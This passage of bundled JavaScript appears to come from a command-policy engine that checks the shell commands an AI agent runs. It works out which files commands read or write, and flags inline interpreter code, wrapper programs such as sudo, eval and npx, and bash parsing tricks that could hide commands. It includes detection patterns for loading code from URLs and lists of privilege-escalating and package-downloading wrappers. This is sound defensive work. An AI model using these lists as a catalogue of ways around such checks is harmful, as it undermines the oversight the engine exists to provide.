        longValues: {
            regexp: 'value',
            file: 'read',
            glob: 'value',
            iglob: 'value',
            type: 'value',
            'type-not': 'value',
            'type-add': 'value',
            'max-count': 'value',
            'after-context': 'value',
            'before-context': 'value',
            context: 'value',
            'max-columns': 'value',
            encoding: 'value',
            replace: 'value',
            threads: 'value',
            'max-depth': 'value',
            'ignore-file': 'read',
            'max-filesize': 'value',
            'context-separator': 'value',
            'field-match-separator': 'value',
            'field-context-separator': 'value',
            'path-separator': 'value',
            sort: 'value',
            sortr: 'value',
            colors: 'value',
            color: 'value',
            engine: 'value',
        },
        longFlags: ['follow'],
        longToShort: { follow: '-L' },
        unknownWith: {
            '-L': 'it follows symlinks while searching (leave out -L and --follow)',
        },
        scriptOperandUnless: ['-e', '--regexp', '-f', '--file'],
    },
};
/** The programs whose file arguments are known. */
const FILE_READERS = Object.keys(READERS);

;// CONCATENATED MODULE: ./src/policy/file-operands.ts
/**
 * Which files a command reads or writes through its arguments, for the programs a policy is
 * likely to allow for looking at files: `cat`, `head`, `grep`, `ls`, `jq` and the like. The
 * engine checks every one against the workspace (see `shell-decision.ts`), so an allowed `cat`
 * reads what `read_file` may read and nothing more, sandbox or not.
 *
 * Each program's options are read the way GNU getopt reads them (options anywhere before `--`,
 * clusters of short letters, long options by unique prefix). The reading errs towards paths:
 * a word it cannot place is taken for a file (which only costs a refusal if it lies outside),
 * and a value attached to a long option it does not know (`--foo=/etc/x`) is checked as a path
 * too. What it cannot know before the command runs — a path built by `~`, braces or an
 * expansion, a list of names read from a file, a recursion that follows symlinks — is marked
 * `unknown`, which the engine refuses.
 */


/**
 * The files `program` reads or writes through its arguments, or undefined when the program is
 * not one whose arguments are known.
 */
function fileAccesses(program, args) {
    const spec = READERS[program];
    if (spec === undefined)
        return undefined;
    const { options, operands } = splitArguments(spec, args);
    const accesses = [];
    const names = new Set(options.map((option) => option.name));
    for (const [option, reason] of Object.entries(spec.unknownWith ?? {})) {
        if (names.has(option))
            accesses.push(unknown(option, reason));
    }
    for (const rule of spec.unknownWithAll ?? []) {
        const given = rule.options.every((option) => names.has(option));
        if (given && !(rule.unless ?? []).some((option) => names.has(option))) {
            accesses.push(unknown(rule.options.join(' '), rule.reason));
        }
    }
    for (const option of options) {
        if (option.value !== undefined && option.role !== 'value') {
            accesses.push(toAccess(option.value, option.role, option.attached));
        }
    }
    let files = operands;
    let script;
    if (spec.scriptOperandUnless && !spec.scriptOperandUnless.some((name) => names.has(name))) {
        script = operands[0];
        files = operands.slice(1);
    }
    const extra = spec.extra?.(script, args);
    if (extra !== undefined)
        accesses.push(unknown(script?.text ?? program, extra));
    const inPlace = (spec.writesOperandsWith ?? []).some((name) => names.has(name));
    const roles = spec.operands ?? ['read'];
    files.forEach((word, index) => {
        const role = roles[Math.min(index, roles.length - 1)] ?? 'read';
        if (role === 'value')
            return;
        if (word.literal !== undefined && spec.isNotFile?.(word.literal) === true)
            return;
        accesses.push(toAccess(word, inPlace ? 'write' : role));
    });
    return accesses;
}
function unknown(text, reason) {
    return { text, purpose: 'read', unknown: reason };
}
/**
 * An access for a word: its literal path, its glob pattern, or why neither can be known. A value
 * attached to an option (`--file=x`, `-fx`) is passed as `attached`; options are only read from
 * literal words, so it is literal too.
 */
function toAccess(word, role, attached) {
    const purpose = role === 'write' ? 'write' : 'read';
    const text = attached ?? word.text;
    if (role === 'names') {
        return {
            text,
            purpose,
            unknown: 'it reads the names of the files to open from a file, and those are only known when it runs',
        };
    }
    if (attached !== undefined)
        return { text, purpose, path: attached };
    if (word.literal !== undefined)
        return { text, purpose, path: word.literal };
    const pattern = globPattern(word);
    if (pattern !== undefined)
        return { text, purpose, glob: pattern };
    return { text, purpose, unknown: dynamicReason(word) };
}
function dynamicReason(word) {
    if (word.dynamism.includes('tilde')) {
        return '`~` stands for the home directory, which is outside the workspace';
    }
    if (word.dynamism.includes('brace')) {
        return 'brace expansion makes paths that are only known when it runs (write each path out)';
    }
    if (word.dynamism.includes('glob')) {
        return 'a quoted or escaped glob is only known when it runs (write the paths out)';
    }
    return 'the path is only known when it runs (write it out literally)';
}
/** A glob bash expands against the file system: only unquoted `*`, `?` and `[…]`, nothing else. */
function globPattern(word) {
    if (word.dynamism.length !== 1 || word.dynamism[0] !== 'glob')
        return undefined;
    if (/['"\\()]/u.test(word.text))
        return undefined;
    return word.text;
}
function knownLongs(spec) {
    return [
        ...Object.keys(spec.longValues ?? {}),
        ...Object.keys(spec.longPairs ?? {}),
        ...(spec.longOptional ?? []),
        ...(spec.longFlags ?? []),
    ];
}
/** The long option `written` (without dashes) stands for: exact, or a unique prefix. */
function resolveLong(spec, written) {
    const names = knownLongs(spec);
    if (names.includes(written))
        return written;
    const matches = names.filter((name) => name.startsWith(written));
    return matches.length === 1 ? matches[0] : undefined;
}
/** Options (with their values) and operands, as getopt_long would split them. */
function splitArguments(spec, args) {
    const options = [];
    const operands = [];
    let i = 0;
    while (i < args.length && spec.subcommands?.includes(args[i]?.literal ?? '') === true)
        i++;
    let optionsDone = false;
    const take = () => {
        i++;
        return args[i];
    };
    for (; i < args.length; i++) {
        const word = args[i];
        if (word === undefined)
            continue;
        const literal = word.literal;
        if (optionsDone || literal === undefined || !literal.startsWith('-') || literal === '-') {
            // `-` is standard input; a word that is not literal is an operand (its hazard is reported).
            if (literal !== '-')
                operands.push(word);
            if (spec.optionsFirst)
                optionsDone = true;
            continue;
        }
        if (literal === '--') {
            optionsDone = true;
            continue;
        }
        if (literal.startsWith('--')) {
            options.push(...longOption(spec, word, literal, take));
            continue;
        }
        for (let j = 1; j < literal.length; j++) {
            const letter = literal[j] ?? '';
            const role = spec.shortValues?.[letter];
            if (role === undefined) {
                options.push({ name: `-${letter}`, role: 'value' });
                continue;
            }
            const stuck = literal.slice(j + 1);
            const value = stuck === '' ? take() : word;
            options.push({
                name: `-${letter}`,
                role,
                ...(value ? { value } : {}),
                ...(stuck === '' ? {} : { attached: stuck }),
            });
            break;
        }
    }
    return { options, operands };
}
/**
 * One long option and its value. One we do not know, written with a value (`--foo=/etc/x`), has
 * that value checked as a path: nothing says it is not one.
 */
function longOption(spec, word, literal, take) {
    const equals = literal.indexOf('=');
    const written = equals < 0 ? literal.slice(2) : literal.slice(2, equals);
    const known = resolveLong(spec, written);
    const name = known === undefined ? `--${written}` : (spec.longToShort?.[known] ?? `--${known}`);
    const attached = equals < 0 ? undefined : literal.slice(equals + 1);
    if (known === undefined) {
        return [
            attached === undefined
                ? { name, role: 'value' }
                : { name, role: 'read', value: word, attached },
        ];
    }
    const pair = spec.longPairs?.[known];
    if (pair !== undefined) {
        // A name, then the value: `--rawfile name file`, `--arg=name value`.
        if (attached === undefined)
            take();
        const value = take();
        return [{ name, role: pair, ...(value ? { value } : {}) }];
    }
    const role = spec.longValues?.[known];
    if (role === undefined) {
        return [{ name, role: 'value', ...(attached === undefined ? {} : { value: word, attached }) }];
    }
    if (attached !== undefined)
        return [{ name, role, value: word, attached }];
    const value = take();
    return [{ name, role, ...(value ? { value } : {}) }];
}

;// CONCATENATED MODULE: ./src/policy/shell-interpreters.ts
/** Shells whose `-c` string is parsed and checked. */
const UNWRAPPED_SHELLS = new Set(['bash', 'sh', 'dash', 'zsh', 'ksh']);
/** Shells whose syntax differs from bash enough that the check of their string is not enough. */
const FOREIGN_SYNTAX_SHELLS = new Set(['zsh', 'ksh']);
/** Other shells: their strings are not parsed at all. */
const OTHER_SHELLS = new Set([
    'mksh',
    'ash',
    'fish',
    'csh',
    'tcsh',
    'rc',
    'es',
    'yash',
    'elvish',
    'nu',
    'xonsh',
]);
/** Shell option letters that do not change what runs (`-e`, `-x`, `-l` …). */
const HARMLESS_SHELL_LETTERS = 'abefhklmnprtuvxBCEHPT';
const HARMLESS_SHELL_LONG = new Set([
    '--norc',
    '--noprofile',
    '--login',
    '--posix',
    '--noediting',
    '--restricted',
    '--verbose',
    '--version',
    '--help',
]);
const PYTHON = {
    inlineShort: 'c',
    shortWithValue: 'WXQ',
    moduleShort: 'm',
    exitOptions: ['--version', '-V', '--help', '-h', '-?'],
};
const NODE = {
    inlineShort: 'ep',
    inlineLong: ['--eval', '--print'],
    shortWithValue: 'r',
    exitOptions: ['--version', '-v', '--help', '-h', '--v8-options'],
    longWithValue: [
        '--require',
        '--import',
        '--loader',
        '--experimental-loader',
        '--env-file',
        '--input-type',
        '--title',
        '--conditions',
    ],
};
const PERL = {
    inlineShort: 'eEMm',
    shortWithValue: 'IxlCdD0i',
    exitOptions: ['-v', '--version', '-V', '-h', '--help'],
};
const RUBY = {
    inlineShort: 'e',
    shortWithValue: 'IrCEFx',
    exitOptions: ['-v', '--version', '-h', '--help'],
};
const PHP = {
    inlineShort: 'rBRE',
    shortWithValue: 'cdzt',
    scriptShort: 'f',
    exitOptions: ['-v', '--version', '-h', '--help', '-i', '--info', '-m', '--modules'],
};
const LUA = { inlineShort: 'e', shortWithValue: 'l', exitOptions: ['-v'] };
const VERSION_ONLY = ['--version', '-v', '-V', '--help', '-h'];
/** Interpreters by name; version-suffixed names (`python3.12`) are matched by prefix below. */
const INTERPRETERS = {
    python: PYTHON,
    python2: PYTHON,
    python3: PYTHON,
    pypy: PYTHON,
    pypy3: PYTHON,
    node: NODE,
    nodejs: NODE,
    perl: PERL,
    ruby: RUBY,
    php: PHP,
    lua: LUA,
    luajit: LUA,
    Rscript: { inlineShort: 'e', shortWithValue: '', exitOptions: VERSION_ONLY },
    julia: {
        inlineShort: 'eE',
        inlineLong: ['--eval', '--print'],
        shortWithValue: '',
        exitOptions: VERSION_ONLY,
    },
    expect: { inlineShort: 'c', shortWithValue: '', exitOptions: VERSION_ONLY },
    tclsh: { inlineShort: '', shortWithValue: '', exitOptions: VERSION_ONLY },
    osascript: { inlineShort: 'e', shortWithValue: '', exitOptions: VERSION_ONLY },
    pwsh: {
        inlineShort: 'ce',
        inlineLong: ['-command', '-encodedcommand', '-c', '-ec', '-e'],
        shortWithValue: '',
        exitOptions: ['-version', '-v', '-help', '-h', '--version', '--help'],
    },
    groovy: { inlineShort: 'e', shortWithValue: '', exitOptions: VERSION_ONLY },
    bun: {
        inlineShort: 'ep',
        inlineLong: ['--eval', '--print'],
        shortWithValue: '',
        exitOptions: VERSION_ONLY,
    },
};
/** Options that load code given as a URL rather than a file in the workspace (`node --import data:…`). */
const REMOTE_CODE = /^(data|https?):/iu;
function interpreterSpec(program) {
    const exact = INTERPRETERS[program];
    if (exact)
        return exact;
    if (/^python\d+(\.\d+)*$/u.test(program))
        return PYTHON;
    if (/^(perl|ruby|php|lua)\d+(\.\d+)*$/u.test(program)) {
        return INTERPRETERS[program.replace(/[\d.]+$/u, '')];
    }
    return undefined;
}
const NOT_AN_INTERPRETER = { readsStdinCode: false, hazards: [] };
function interpreterFindings(program, args) {
    if (UNWRAPPED_SHELLS.has(program))
        return shellFindings(program, args);
    if (OTHER_SHELLS.has(program)) {
        const detail = `the shell \`${program}\`, whose commands are not checked`;
        return { readsStdinCode: args.length === 0, hazards: [{ kind: 'inline_code', detail }] };
    }
    if (program === 'deno')
        return denoFindings(args);
    const spec = interpreterSpec(program);
    if (!spec)
        return NOT_AN_INTERPRETER;
    const first = args[0]?.literal;
    // `bun run x`, `bun test`: subcommands, not code (`bun x` is a wrapper).
    if (program === 'bun' && first !== undefined && !first.startsWith('-'))
        return NOT_AN_INTERPRETER;
    if (args.some((arg) => arg.literal !== undefined && spec.exitOptions?.includes(arg.literal))) {
        return NOT_AN_INTERPRETER;
    }
    return scanInterpreter(program, spec, args);
}
/** Walks the options up to the script: inline code, code from standard input, or a script file. */
function scanInterpreter(program, spec, args) {
    const hazards = [];
    const done = (readsStdinCode) => ({ readsStdinCode, hazards });
    const inline = (written) => {
        hazards.push({ kind: 'inline_code', detail: `inline code given to \`${program} ${written}\`` });
        return done(false);
    };
    for (let i = 0; i < args.length; i++) {
        const arg = args[i];
        if (arg === undefined)
            break;
        const literal = arg.literal;
        if (literal === undefined) {
            const detail = `the argument \`${arg.text}\` of \`${program}\`, which is not literal`;
            hazards.push({ kind: 'inline_code', detail });
            return done(false);
        }
        if (literal === '-') {
            const detail = `\`${program} -\`, which reads code from standard input`;
            hazards.push({ kind: 'inline_code', detail });
            return done(true);
        }
        // A script file: what it runs is the file's business (and the rules').
        if (literal === '--' || !literal.startsWith('-'))
            return done(false);
        const equals = literal.indexOf('=');
        const name = equals < 0 ? literal : literal.slice(0, equals);
        const stuck = equals < 0 ? undefined : literal.slice(equals + 1);
        if (spec.inlineLong?.includes(name.toLowerCase()))
            return inline(name);
        if (literal.startsWith('--')) {
            if (spec.longWithValue?.includes(name)) {
                const value = stuck ?? args[i + 1]?.literal;
                if (value === undefined || REMOTE_CODE.test(value))
                    return inline(name);
                if (stuck === undefined)
                    i++;
            }
            continue;
        }
        for (let j = 1; j < literal.length; j++) {
            const letter = literal[j] ?? '';
            if (spec.inlineShort.includes(letter))
                return inline(`-${letter}`);
            if (spec.moduleShort?.includes(letter) || spec.scriptShort?.includes(letter)) {
                return done(false);
            }
            if (spec.shortWithValue.includes(letter)) {
                if (j === literal.length - 1)
                    i++;
                break;
            }
        }
    }
    const detail = `\`${program}\` without a script, which reads code from standard input`;
    hazards.push({ kind: 'inline_code', detail });
    return done(true);
}
/** deno runs code with `eval`, `repl` and `run` of a URL or standard input. */
function denoFindings(args) {
    const operands = args.filter((arg) => !arg.literal?.startsWith('-'));
    const sub = operands[0];
    const target = operands[1];
    const inline = (detail, readsStdinCode = false) => ({
        readsStdinCode,
        hazards: [{ kind: 'inline_code', detail }],
    });
    if (args.some((arg) => arg.literal === '--version' || arg.literal === '--help')) {
        return NOT_AN_INTERPRETER;
    }
    if (sub === undefined)
        return inline('`deno` without a subcommand, which reads code', true);
    if (sub.literal === undefined) {
        return inline(`the deno subcommand \`${sub.text}\`, which is not literal`);
    }
    if (sub.literal === 'eval' || sub.literal === 'repl') {
        return inline(`\`deno ${sub.literal}\`, which runs inline code`, sub.literal === 'repl');
    }
    if (sub.literal !== 'run')
        return NOT_AN_INTERPRETER;
    if (target?.literal === undefined || target.literal === '-') {
        return inline(`\`deno run\` reading code that is not a file`, target?.literal === '-');
    }
    if (REMOTE_CODE.test(target.literal)) {
        return inline(`\`deno run ${target.text}\`, which runs code from a URL`);
    }
    return NOT_AN_INTERPRETER;
}
/**
 * `bash -c 'string'`: the string is handed back to be parsed and checked. Options that read
 * start-up files (`-i`, `--rcfile`), read commands from standard input (`-s`, no operand) or that
 * this reader does not know make the shell itself a hazard.
 */
function shellFindings(program, args) {
    const hazards = [];
    const hazard = (kind, detail) => hazards.push({ kind, detail });
    let commandMode = false;
    let stdinMode = false;
    let i = 0;
    for (; i < args.length; i++) {
        const arg = args[i];
        if (arg === undefined)
            break;
        const literal = arg.literal;
        if (literal === undefined) {
            hazard('inline_code', `the argument \`${arg.text}\` of \`${program}\`, which is not literal`);
            return { readsStdinCode: false, hazards };
        }
        if (literal === '--' || literal === '-') {
            i++;
            break;
        }
        if (literal.startsWith('--')) {
            if (!HARMLESS_SHELL_LONG.has(literal)) {
                hazard('dangerous_argument', `the shell option \`${literal}\`, which can run other code`);
            }
            // Their value is the next word.
            if (literal === '--rcfile' || literal === '--init-file')
                i++;
            continue;
        }
        if (!literal.startsWith('-') && !literal.startsWith('+'))
            break;
        for (const letter of literal.slice(1)) {
            if (letter === 'c') {
                commandMode = true;
            }
            else if (letter === 's') {
                stdinMode = true;
                hazard('inline_code', `\`${program} -s\`, which reads commands from standard input`);
            }
            else if (letter === 'i') {
                hazard('dangerous_argument', `\`${program} -i\`, which runs start-up files`);
            }
            else if (letter === 'o' || letter === 'O') {
                i++;
            }
            else if (!HARMLESS_SHELL_LETTERS.includes(letter)) {
                hazard('dangerous_argument', `the unknown shell option \`-${letter}\``);
            }
        }
    }
    const operand = args[i];
    if (!commandMode) {
        const readsStdin = stdinMode || operand === undefined;
        if (operand === undefined && !stdinMode) {
            hazard('inline_code', `\`${program}\` without a script, which reads commands from standard input`);
        }
        return { readsStdinCode: readsStdin, hazards };
    }
    if (operand?.literal === undefined) {
        const what = operand
            ? `the string \`${operand.text}\`, which is not literal`
            : 'no command string';
        hazard('inline_code', `\`${program} -c\` with ${what}`);
        return { readsStdinCode: false, hazards };
    }
    if (FOREIGN_SYNTAX_SHELLS.has(program)) {
        hazard('inline_code', `a \`${program} -c\` string, which ${program} may read differently from bash`);
    }
    return { readsStdinCode: false, hazards, shellString: operand.literal };
}

;// CONCATENATED MODULE: ./src/policy/shell-programs.ts
/**
 * Programs that run other programs or code given to them: wrappers (`env`, `xargs`, `sudo` …),
 * builtins this analysis does not judge (`trap`, `alias`), interpreters and shells (see
 * shell-interpreters.ts), and builtins that set variables later commands see (`read PATH`).
 *
 * Each table entry says why it is there. Names are matched on the last path segment, so
 * `/usr/bin/env` is `env`.
 */

/** Commands that run the command given in their arguments (or change how later ones run). */
const WRAPPERS = {
    env: 'runs a command with a changed environment',
    command: 'runs a command bypassing functions',
    builtin: 'runs a builtin by name',
    exec: 'replaces the shell with a command',
    eval: 'runs its arguments as shell code',
    source: 'runs a file as shell code',
    '.': 'runs a file as shell code',
    xargs: 'runs a command built from its input',
    parallel: 'runs commands built from its input',
    timeout: 'runs a command with a time limit',
    gtimeout: 'runs a command with a time limit',
    nice: 'runs a command at another priority',
    nohup: 'runs a command immune to hangups',
    sudo: 'runs a command as another user',
    doas: 'runs a command as another user',
    su: 'runs a command as another user',
    runuser: 'runs a command as another user',
    pkexec: 'runs a command as another user',
    setsid: 'runs a command in a new session',
    stdbuf: 'runs a command with changed buffering',
    unbuffer: 'runs a command under a pseudo-terminal',
    time: 'runs a command and times it',
    watch: 'runs a command repeatedly through a shell',
    strace: 'runs a command under a tracer',
    ltrace: 'runs a command under a tracer',
    valgrind: 'runs a command under a debugger',
    gdb: 'runs a debugger, which can run commands',
    chroot: 'runs a command in another root directory',
    flock: 'runs a command holding a lock',
    ionice: 'runs a command at another I/O priority',
    chrt: 'runs a command at another scheduling priority',
    taskset: 'runs a command on chosen CPUs',
    numactl: 'runs a command with a memory policy',
    prlimit: 'runs a command with changed limits',
    script: 'runs a command under a recorded terminal',
    nsenter: 'runs a command in other namespaces',
    unshare: 'runs a command in new namespaces',
    busybox: 'runs any of the programs built into it',
    fakeroot: 'runs a command with faked root privileges',
    'ssh-agent': 'runs a command under an agent',
    'xvfb-run': 'runs a command under a virtual display',
    let: 'evaluates arithmetic, where array subscripts can run commands',
    // Package runners download and run packages, or run any command in a prepared environment.
    npx: 'downloads and runs a package',
    pnpx: 'downloads and runs a package',
    bunx: 'downloads and runs a package',
    uvx: 'downloads and runs a package',
    'cross-env': 'runs a command with a changed environment',
    dotenv: 'runs a command with a changed environment',
    'env-cmd': 'runs a command with a changed environment',
};
/** Subcommands of tools that turn them into wrappers (`npm exec`, `uv run` …). */
const WRAPPER_SUBCOMMANDS = {
    npm: ['exec', 'x', 'explore'],
    pnpm: ['dlx', 'exec'],
    yarn: ['dlx', 'exec'],
    bun: ['x'],
    deno: ['x'],
    uv: ['run', 'tool'],
    pipx: ['run'],
    poetry: ['run'],
    pipenv: ['run'],
    pdm: ['run'],
    hatch: ['run'],
    conda: ['run'],
    bundle: ['exec'],
    mise: ['exec', 'x'],
    asdf: ['exec'],
    direnv: ['exec'],
};
/** Builtins and keywords this analysis does not judge. */
const UNSUPPORTED = {
    trap: 'sets commands to run on signals',
    alias: 'redefines what a command name runs',
    coproc: 'starts a coprocess',
    function: 'defines a function',
};
function programFindings(input) {
    const { program, args } = input;
    const hazards = [];
    const wrapper = wrapperReason(program, args);
    if (wrapper !== undefined)
        hazards.push({ kind: 'wrapper', detail: wrapper });
    const unsupported = UNSUPPORTED[program];
    if (unsupported !== undefined) {
        hazards.push({ kind: 'unsupported_construct', detail: `\`${program}\`, which ${unsupported}` });
    }
    if (program === 'exec' && args.length === 0 && input.redirects.length > 0) {
        hazards.push({
            kind: 'unsupported_construct',
            detail: '`exec` with only redirections, which changes the descriptors of every later command',
        });
    }
    const interpreter = interpreterFindings(program, args);
    hazards.push(...interpreter.hazards);
    if (interpreter.readsStdinCode) {
        const fed = input.redirects.find((r) => r.operator.includes('<<'));
        if (fed) {
            hazards.push({
                kind: 'unsupported_construct',
                detail: `a here-document or here-string (\`${fed.operator}\`) feeding code to \`${program}\``,
            });
        }
    }
    return interpreter.shellString === undefined
        ? { hazards }
        : { hazards, shellString: interpreter.shellString };
}
function wrapperReason(program, args) {
    if (program === 'command' && isCommandLookup(args))
        return undefined;
    if (program === 'exec' && args.length === 0)
        return undefined;
    const why = WRAPPERS[program];
    if (why !== undefined)
        return `the wrapper \`${program}\`, which ${why}`;
    const subcommand = args.find((arg) => !arg.literal?.startsWith('-'));
    const sub = subcommand?.literal;
    if (sub !== undefined && WRAPPER_SUBCOMMANDS[program]?.includes(sub)) {
        return `the wrapper \`${program} ${sub}\`, which runs another command`;
    }
    return undefined;
}
/** `command -v name` and `command -V name` only describe a command. */
function isCommandLookup(args) {
    const first = args[0]?.literal;
    return (first === '-v' || first === '-V') && args.every((arg) => arg.literal !== undefined);
}
/** Options of variable-setting builtins that take a value (which is not a variable name). */
const TARGET_OPTION_VALUES = {
    read: 'dinNptu',
    mapfile: 'dnOsuCc',
    readarray: 'dnOsuCc',
};
/**
 * Variables a command sets for the commands after it: `for PATH in …`, `read PATH`,
 * `printf -v PATH`, `mapfile`, `getopts`. Lower-case names are the script's own; upper-case ones
 * (and `*_proxy`) may be environment variables that change what later commands run or reach.
 */
function variableTargetHazards(program, args) {
    const targets = variableTargets(program, args);
    return targets
        .filter((name) => name === undefined || !/^[a-z_][a-z0-9_]*$/u.test(name) || name.endsWith('_proxy'))
        .map((name) => ({
        kind: 'assignment_prefix',
        detail: `\`${program}\` setting the variable \`${name ?? '(not literal)'}\` for later commands`,
    }));
}
function variableTargets(program, args) {
    if (program === 'for')
        return args.slice(0, 1);
    if (program === 'printf') {
        const at = args.indexOf('-v');
        return at < 0 ? [] : [args[at + 1]];
    }
    if (program === 'getopts')
        return args.slice(1, 2);
    const withValue = TARGET_OPTION_VALUES[program];
    if (withValue === undefined)
        return [];
    const targets = [];
    for (let i = 0; i < args.length; i++) {
        const arg = args[i];
        if (arg === undefined || !arg.startsWith('-')) {
            targets.push(arg);
            continue;
        }
        const letter = arg[arg.length - 1] ?? '';
        // `read -a NAME` names an array to set.
        if (arg.length === 2 && letter === 'a')
            targets.push(args[i + 1]);
        if (arg.length === 2 && (withValue.includes(letter) || letter === 'a'))
            i++;
    }
    return program === 'read' ? targets : targets.slice(-1);
}

;// CONCATENATED MODULE: ./src/policy/shell-source-checks.ts
/** Nodes whose text is content (quoted text, words, bodies), not a sequence of tokens. */
const OPAQUE = new Set([
    'word',
    'raw_string',
    'string',
    'string_content',
    'ansi_c_string',
    'translated_string',
    'heredoc_body',
    'heredoc_content',
    'heredoc_start',
    'heredoc_end',
    'comment',
    'regex',
    'extglob_pattern',
    'number',
    'variable_name',
    'special_variable_name',
    'file_descriptor',
    'test_operator',
]);
/** Characters before `#` that make it start a comment in bash (a word must begin there). */
const COMMENT_MAY_FOLLOW = new Set([' ', '\t', '\n', ';', '&', '|', '(', ')', '<', '>']);
/** Here-document delimiters we can compare with confidence. */
const PLAIN_DELIMITER = /^[A-Za-z0-9_.:@%+-]+$/u;
/** Descriptions of places where bash could read the source differently; empty when none. */
function sourceProblems(root, source) {
    const problems = [];
    const nul = source.indexOf('\0');
    if (nul >= 0)
        problems.push(`a NUL character at offset ${nul}`);
    const stack = [root];
    for (let node = stack.pop(); node !== undefined; node = stack.pop()) {
        if (node.type === 'comment')
            checkComment(node, source, problems);
        if (node.type === 'heredoc_redirect')
            checkHeredoc(node, source, problems);
        if (node.type === 'word')
            checkWord(node, source, problems);
        // A leaf is a token or content; only the space between a node's children can hide bytes.
        if (OPAQUE.has(node.type) || node.children.length === 0)
            continue;
        checkGaps(node, source, problems);
        stack.push(...node.children);
    }
    return problems;
}
/**
 * Nodes that bash ends at an unescaped newline. The grammar sometimes runs on across one
 * (`a | b | c⏎d || e` reads as the single command `c d`), which would hide `d`.
 */
const SINGLE_LINE = new Set([
    'command',
    'declaration_command',
    'unset_command',
    'variable_assignments',
    'redirected_statement',
    'file_redirect',
    'herestring_redirect',
    'heredoc_redirect',
    'concatenation',
]);
/**
 * Between tokens only spaces, tabs, newlines and backslash-newline continuations may appear, and
 * no newline inside a single-line construct (but the one that starts a here-document's body).
 */
function checkGaps(node, source, problems) {
    let at = node.start;
    for (const child of [...node.children, undefined]) {
        const end = child ? child.start : node.end;
        const gap = source.slice(at, end).replace(/\\\n/gu, '');
        const stray = /[^ \t\n]/u.exec(gap);
        if (stray) {
            problems.push(`the character ${JSON.stringify(stray[0])} near offset ${at}, which bash reads as part of a word`);
            return;
        }
        const bodyFollows = child?.type === 'heredoc_body' || child?.type === 'heredoc_end';
        if (gap.includes('\n') && SINGLE_LINE.has(node.type) && !bodyFollows) {
            problems.push(`a line break at offset ${at} that bash reads as the end of the command`);
            return;
        }
        if (child)
            at = Math.max(at, child.end);
    }
}
/** An unquoted word ends at the first unescaped blank; the grammar sometimes reads on (`} ]`). */
function checkWord(node, source, problems) {
    const written = source.slice(node.start, node.end);
    for (let i = 0; i < written.length; i++) {
        const ch = written[i] ?? '';
        if (ch === '\\')
            i++;
        else if (ch === ' ' || ch === '\t' || ch === '\n') {
            problems.push(`the word \`${written}\`, which bash splits at the blank inside it`);
            return;
        }
    }
}
function checkComment(node, source, problems) {
    const before = node.start === 0 ? undefined : source[node.start - 1];
    if (before !== undefined && !COMMENT_MAY_FOLLOW.has(before)) {
        problems.push(`a \`#\` at offset ${node.start} that bash does not read as a comment`);
    }
}
/**
 * The body must start at the beginning of a line, end at the first line that is exactly the
 * delimiter (after leading tabs for `<<-`), and that line must end the body.
 */
function checkHeredoc(node, source, problems) {
    const startNode = node.children.find((c) => c.type === 'heredoc_start');
    const endNode = node.children.find((c) => c.type === 'heredoc_end');
    const bodyNode = node.children.find((c) => c.type === 'heredoc_body');
    const stripTabs = node.children.some((c) => c.type === '<<-');
    if (!startNode || !endNode) {
        problems.push('a here-document without its end');
        return;
    }
    const delimiter = unquoteDelimiter(source.slice(startNode.start, startNode.end));
    if (delimiter === undefined) {
        problems.push(`the here-document delimiter \`${source.slice(startNode.start, startNode.end)}\``);
        return;
    }
    const bodyStart = lineStart(source, bodyNode ? bodyNode.start : endNode.start);
    const indent = source.slice(bodyStart, bodyNode ? bodyNode.start : bodyStart);
    // The grammar starts the body node after leading blanks; anything else before it is not body.
    if (bodyStart === 0 || !/^[ \t]*$/u.test(indent)) {
        problems.push(`a here-document body that does not start on its own line (\`${delimiter}\`)`);
        return;
    }
    const endLineStart = lineStart(source, endNode.start);
    const endLineEnd = lineEnd(source, endNode.end);
    const normalize = (line) => (stripTabs ? line.replace(/^\t+/u, '') : line);
    if (normalize(source.slice(endLineStart, endLineEnd)) !== delimiter) {
        problems.push(`a here-document that does not end on a line of its own \`${delimiter}\``);
        return;
    }
    const lines = source.slice(bodyStart, endLineStart).split('\n');
    lines.pop();
    if (lines.some((line) => normalize(line) === delimiter)) {
        problems.push(`a here-document whose body contains its delimiter line \`${delimiter}\``);
    }
}
function unquoteDelimiter(written) {
    const value = written.replace(/\\(.)/gu, '$1').replace(/["']/gu, '');
    return PLAIN_DELIMITER.test(value) ? value : undefined;
}
function lineStart(source, index) {
    return source.lastIndexOf('\n', index - 1) + 1;
}
function lineEnd(source, index) {
    const newline = source.indexOf('\n', index);
    return newline < 0 ? source.length : newline;
}

;// CONCATENATED MODULE: ./src/policy/shell-words.ts
/**
 * Characters that may appear in a plain command name: no quoting, escapes, globs, braces,
 * tildes, `$` or `=`, so what is written is what bash looks up.
 */
const PLAIN_NAME = /^[A-Za-z0-9_./+:@%,-]+$/u;
/** Whether a command name is a single plain word. */
function isPlainCommandWord(node, source) {
    return node.type === 'word' && PLAIN_NAME.test(source.slice(node.start, node.end));
}
function evaluateWord(node, source) {
    const state = {
        chars: [],
        dynamism: new Set(),
        prefixEnd: undefined,
    };
    flatten(node, source, state);
    const chars = state.chars;
    const firstUnquoted = chars[0];
    if (firstUnquoted && !firstUnquoted.quoted && firstUnquoted.ch === '~')
        markAt(state, 0, 'tilde');
    const braceAt = braceExpansionStart(chars);
    if (braceAt !== undefined)
        markAt(state, braceAt, 'brace');
    const value = chars.map((c) => c.ch).join('');
    const dynamism = [...state.dynamism];
    return {
        text: source.slice(node.start, node.end),
        literal: dynamism.length === 0 ? value : undefined,
        literalPrefix: value.slice(0, state.prefixEnd ?? value.length),
        dynamism,
    };
}
function markAt(state, index, reason) {
    state.dynamism.add(reason);
    state.prefixEnd = Math.min(state.prefixEnd ?? index, index);
}
function markHere(state, reason) {
    markAt(state, state.chars.length, reason);
}
function flatten(node, source, state) {
    const text = source.slice(node.start, node.end);
    switch (node.type) {
        case 'word':
        case 'variable_name':
            addUnquoted(text, state);
            return;
        case 'number':
            // Numbers may hold `$((…))` and the like as children.
            if (node.children.length > 0)
                markHere(state, 'expansion');
            else
                addUnquoted(text, state);
            return;
        case 'raw_string':
            addQuoted(text.slice(1, -1), state);
            return;
        case 'string':
            addDoubleQuoted(node, text, state);
            return;
        case 'concatenation':
            for (const child of node.children)
                flatten(child, source, state);
            return;
        case 'brace_expression':
            markHere(state, 'brace');
            return;
        case 'extglob_pattern':
            markHere(state, 'glob');
            return;
        case 'simple_expansion':
        case 'expansion':
        case 'command_substitution':
        case 'process_substitution':
        case 'arithmetic_expansion':
        case 'ansi_c_string':
        case 'translated_string':
        case '$':
            markHere(state, 'expansion');
            return;
        default:
            markHere(state, 'unsupported');
    }
}
